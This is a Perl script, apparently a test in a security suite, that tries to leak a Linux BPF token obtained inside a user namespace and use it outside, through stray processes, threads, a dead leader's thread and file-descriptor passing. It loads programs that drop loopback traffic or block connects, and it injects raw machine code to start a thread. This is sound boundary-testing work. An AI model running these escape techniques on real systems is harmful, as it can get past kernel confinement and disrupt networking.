# Gets a token inside a namespace and uses it outside: leak.pl SOCKET UID REQUEST MODE [CGROUP]
#
# Run as root in a network namespace of the initial user namespace. `before` and `after` state whether
# root's datagrams arrive over its loopback; with a cgroup, whether root in it may connect.
#
#   clean    one process, in a new network namespace
#   process  another process of the user namespace remains in the outside network namespace
#   thread   a second thread remains in the outside network namespace
#   dead     a process whose leader has exited has a thread in the outside network namespace
#   sent     the token is sent to a process that was never in the user namespace
use strict;
use warnings;
use Attack;
use POSIX ();
use DynaLoader ();
use Socket qw(AF_INET SOCK_DGRAM INADDR_LOOPBACK pack_sockaddr_in);

my ($path, $uid, $request, $mode, $cgroup) = @ARGV;
loopback_up();
pipe my $done_read, my $done_write or die;
pipe my $end_read, my $end_write or die;
my $hostile = fork // die;
if ($hostile == 0) {
  close $_ for $done_read, $end_write;
  become($uid + 0);
  my %modes = (clean => \&clean, process => \&process, thread => \&thread, dead => \&dead,
    sent => \&sent);
  my @kept = $modes{$mode}->();
  syswrite $done_write, 'x';
  # Keep it attached until root has checked.
  sysread $end_read, my $byte, 1;
  POSIX::_exit(0);
}
close $_ for $done_write, $end_read;
if (defined $cgroup) {
  my $joined = write_file("$cgroup/cgroup.procs", "$$\n");
  die "$cgroup: " . errno_name($joined) . "\n" if $joined < 0;
}
# The stray in root's network namespace starts before the request; nothing is attached before the token arrives.
sysread $done_read, my $byte, 1;
say_value('network', network_works() ? 'works' : 'cut');
say_value('connect', errno_name(connects())) if defined $cgroup;
close $end_write;
waitpid $hostile, 0;

sub loopback_up {
  socket my $socket, AF_INET, SOCK_DGRAM, 0 or die;
  my $interface = pack 'a16 s x22', 'lo', 1;
  my $result = sys('ioctl', fileno $socket, 0x8914, $interface);
  die 'lo: ' . errno_name($result) . "\n" if $result < 0;
  say_value('before', network_works() ? 'works' : 'cut');
}

sub network_works {
  socket my $receiver, AF_INET, SOCK_DGRAM, 0 or die;
  bind $receiver, pack_sockaddr_in(0, INADDR_LOOPBACK) or die;
  socket my $sender, AF_INET, SOCK_DGRAM, 0 or die;
  my $address = getsockname $receiver;
  send $sender, 'x', 0, $address or return 0;
  my $bits = '';
  vec($bits, fileno $receiver, 1) = 1;
  return select($bits, undef, undef, 0.5) == 1;
}

sub connects {
  socket my $socket, AF_INET, SOCK_DGRAM, 0 or die;
  return connect($socket, pack_sockaddr_in(9, INADDR_LOOPBACK)) ? 0 : -($! + 0);
}

# Requests the token and prints the result.
sub get {
  my ($answer, $token) = ask($path, $request, 4);
  say_value('answer', $answer);
  say_value('token', $token >= 0 ? 'yes' : 'no');
  return $token;
}

# Loads one harmless program and prints the result.
sub load {
  my ($token) = @_;
  my $code = insn(0xb7, 0, 0, 0, 2) . insn(0x95, 0, 0, 0, 0);
  my ($program) = program_load($token, 6, 37, $code);
  say_value('program', errno_name($program));
  say_value('map', errno_name(map_create($token)));
  return $program;
}

sub own_network {
  my $result = sys('unshare', NEWNET);
  die 'network: ' . errno_name($result) . "\n" if $result < 0;
}

sub clean {
  own_namespace($uid, NEWNS | NEWNET);
  my $token = get();
  load($token) if $token >= 0;
}

sub process {
  own_namespace($uid, 0);
  my $other = fork // die;
  if ($other == 0) { sysread $end_read, my $byte, 1; POSIX::_exit(0) }
  own_network();
  get();
}

sub thread {
  own_namespace($uid, 0);
  start_thread();
  own_network();
  get();
}

sub dead {
  own_namespace($uid, 0);
  my $other = fork // die;
  if ($other == 0) {
    # The requester and its remaining thread end with their parent.
    sys('prctl', 1, 9, 0, 0, 0);
    start_thread();
    sys('exit', 0);
  }
  die "the leader does not end\n"
    unless wait_for(3, sub { (read_file("/proc/$other/stat") // '') =~ /\) Z / });
  own_network();
  get();
  kill 'KILL', $other;
}

sub sent {
  my ($ours, $theirs) = socket_pair();
  my $inside = fork // die;
  if ($inside == 0) {
    own_namespace($uid, NEWNS | NEWNET);
    my $token = get();
    send_fd($theirs, $token) if $token >= 0;
    POSIX::_exit(0);
  }
  close $theirs;
  my $token = receive_fd($ours, 6);
  waitpid $inside, 0;
  if ($token < 0) { say_value('outside', 'no token'); return }
  say_value('outside', 'has the token');
  say_value('map', errno_name(map_create($token)));
  my ($link, $program);
  if (defined $cgroup) {
    # cgroup_sock_addr program that refuses connect4.
    ($program) = program_load($token, 18, 10, insn(0xb7, 0, 0, 0, 0) . insn(0x95, 0, 0, 0, 0));
    opendir my $folder, $cgroup or die "$cgroup: $!\n";
    open my $file, '<', $cgroup or die "$cgroup: $!\n";
    $link = $program < 0 ? $program : bpf(28, pack 'LLL', $program, fileno $file, 10);
  } else {
    # XDP_DROP on the loopback device.
    ($program) = program_load($token, 6, 37, insn(0xb7, 0, 0, 0, 1) . insn(0x95, 0, 0, 0, 0));
    $link = $program < 0 ? $program : bpf(28, pack 'LLL', $program, 1, 37);
  }
  say_value('program', errno_name($program));
  say_value('attached', errno_name($link));
}

# Starts a second thread that waits forever. perl-base has no threads, so its machine code is written to memory.
sub start_thread {
  my %code = (
    x86_64 => 'b838000000488b3d24000000488b352500000031d24531d24531c00f0585c07401c3b822000000'
      . '0f05ebf70f1f440000',
    aarch64 => '881b80d22002005841020058020080d2030080d2040080d2010000d4400000b4c0035fd6000080d2'
      . '010080d2020080d2030080d2040080d2280980d2010000d4f9ffff171f2003d5',
  );
  # CLONE_VM, FS, FILES, SIGHAND, THREAD and SYSVSEM, followed by the top of the stack.
  my $memory = sys('mmap', 0, 16384, 3, 0x22, -1, 0);
  die "mmap\n" if $memory < 0;
  my $text = pack('H*', $code{$machine}) . pack 'QQ', 0x50f00, $memory + 16384;
  pipe my $reader, my $writer or die;
  syswrite $writer, $text;
  sys('read', fileno $reader, $memory, length $text);
  sys('mprotect', $memory, 4096, 5);
  DynaLoader::dl_install_xsub('main::native', $memory);
  native();
  my $threads = () = glob '/proc/self/task/*';
  die "there is no second thread\n" if $threads != 2;
}
